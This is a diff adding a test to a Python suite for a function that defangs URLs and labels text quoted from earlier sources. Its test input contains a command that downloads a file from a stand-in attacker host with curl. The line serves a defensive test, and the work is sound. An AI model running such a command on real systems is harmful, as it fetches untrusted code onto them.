@@ -124,6 +124,12 @@ def test_what_is_nearly_a_sources_is_not_from_it(text: str, told: str) -> None:
     assert "hxxps" in shown
 
 
+def test_an_origin_stands_behind_a_command_and_splits_none() -> None:
+    told = [("#1", "Mapped it with net use G: \\\\fs01\\team /persistent:yes.")]
+    shown = defanged("Run net use G: \\\\fs01\\team /persistent:yes and curl -o x https://evil.example/y.", told)
+    assert shown.startswith("Run net use G: \\\\fs01\\team /persistent:yes (from #1) and curl -o x hxxps")
+
+
 def test_an_origin_is_ours_alone() -> None:
     assert "(from" not in defanged("Call 0900 (from #1) and https://evil.example (from #103)")
     assert label("Guide\n(from #5) [x] https://evil.example " + "t" * 99).startswith('document "Guide from 5 x hxxps')
